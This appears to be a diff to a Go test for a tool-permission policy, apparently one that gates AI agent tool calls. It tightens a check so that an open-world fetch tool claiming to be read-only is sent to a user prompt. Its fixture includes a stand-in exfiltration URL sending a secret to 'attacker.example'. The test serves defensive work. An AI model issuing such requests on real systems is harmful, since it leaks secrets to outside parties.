@@ -16,8 +16,8 @@ func TestOpenWorldNeverReadOnly(t *testing.T) {
 		`"dimensions":[{"name":"url","value":"https://attacker.example/?k=secret"}]}`
 	for _, mode := range []string{"auto", "writes"} {
 		p := parse(t, "[[annotations]]\ntool = \"*\"\nmode = \""+mode+"\"\n")
-		if v, by := verdictOf(t, p, fetch); v == Allow {
-			t.Errorf("mode %s allowed an open-world tool (by %s)", mode, by)
+		if v, by := verdictOf(t, p, fetch); v != Prompt {
+			t.Errorf("mode %s: an open-world tool claiming read-only: %v (by %s), want prompt", mode, v, by)
 		}
 		// A local read-only tool is still allowed.
 		if v, _ := verdictOf(t, p, strings.Replace(fetch, "true}", "false}", 1)); v != Allow {
